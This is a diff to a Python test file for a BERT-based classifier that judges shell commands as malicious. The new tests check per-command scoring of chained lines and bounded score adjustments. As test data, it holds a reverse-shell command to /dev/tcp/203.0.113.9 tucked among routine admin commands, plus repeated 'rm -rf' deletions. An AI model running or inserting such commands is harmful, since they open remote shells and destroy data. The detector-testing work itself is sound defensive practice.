@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import math
 import random
 import time
 from collections.abc import Callable, Mapping, Sequence
@@ -9,9 +10,12 @@ from pathlib import Path
 
 import pytest
 
+from analyzers.bert.canonical import canonical
+from analyzers.bert.commands import MOST
 from analyzers.bert.encoder import Encoder
-from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict
+from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict, place_of
 from analyzers.bert.manifest import BUILTIN_MODEL
+from analyzers.bert.screen import LOUDEST
 from state.verdicts import MAX_VALUE, VerdictStore
 
 TEXTS = [
@@ -118,6 +122,44 @@ def test_a_long_text_is_read_at_its_head_and_tail_and_in_bounded_time(encoder: E
     assert head.scores[place] > plain.scores[place] and tail.scores[place] > plain.scores[place]
     # Seconds, not the minutes that all of its windows would take.
     assert took < 30
+
+
+def test_each_command_of_a_line_is_judged_by_itself_too(changed: Callable[..., Path]) -> None:
+    """Else eight commands of administration hide the one between them."""
+    attack = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+    around = ["cd /srv/app", "git pull --rebase", "make -j4 build", "tail -n 50 /var/log/app/build.log"]
+    line = " && ".join([*around, attack, *reversed(around)])
+    with_them, without = (TextJudge(Encoder.load(changed(commands=told)), size=0).encoder for told in (True, False))
+    form, lone = canonical(line, "shell"), canonical(attack, "shell")
+    told = [(form.text, place_of("shell"), form.features)]
+    (read,), (less,) = with_them.read(told, 16), without.read(told, 16)
+    assert read.whole and len(less.windows) == 1 and read.windows[:1] == less.windows
+    assert read.parts[0] == form.text and lone.text in read.parts[1:]
+    ((alone,),) = (some.windows for some in with_them.read([(lone.text, place_of("shell"), lone.features)], 16))
+    assert any(window.tokens == alone.tokens and window.features == alone.features for window in read.windows[1:])
+    # As often as it stands there, a command is read once, and of very many only some.
+    many = "; ".join(["ls -la /tmp"] * 500 + [f"rm /tmp/{number}" for number in range(500)])
+    (read,) = with_them.read([(many, place_of("shell"), form.features)], 16)
+    assert not read.whole and len(read.windows) == 16 + MOST
+
+
+def _logit(verdict: Verdict) -> float:
+    return math.log(verdict.malicious / (1 - verdict.malicious))
+
+
+def test_the_screen_moves_a_verdict_by_a_bounded_step(changed: Callable[..., Path]) -> None:
+    plain, heavy = (TextJudge(Encoder.load(changed(screen_weights=weights))) for weights in ([], [0.5] * 6))
+    for text in ("id", "x" * 300, "/bin/sh" * 500, "; ".join(f"rm -rf /srv/{number}/cache" for number in range(9))):
+        form = canonical(text, "shell")
+        readings = heavy.encoder.read([(form.text, 1, form.features)], 16)
+        (more,), (none,) = heavy.encoder.screened(readings), plain.encoder.screened(readings)
+        assert len(more) == len(none) == len(readings[0].windows) and not none.any()
+        assert more.any() and abs(more).max() <= 0.5 * LOUDEST
+        (before,), (after,) = plain.judge([(text, "shell")]), heavy.judge([(text, "shell")])
+        assert isinstance(before, Verdict) and isinstance(after, Verdict)
+        # Six decimals are told, so that what is far beyond moves unseen.
+        if 0.001 < before.malicious < 0.999 and 0.001 < after.malicious < 0.999:
+            assert more.min() - 0.01 <= _logit(after) - _logit(before) <= more.max() + 0.01
 
 
 def test_windows_cover_a_text_that_fits_and_spread_over_one_that_does_not(encoder: Encoder) -> None:
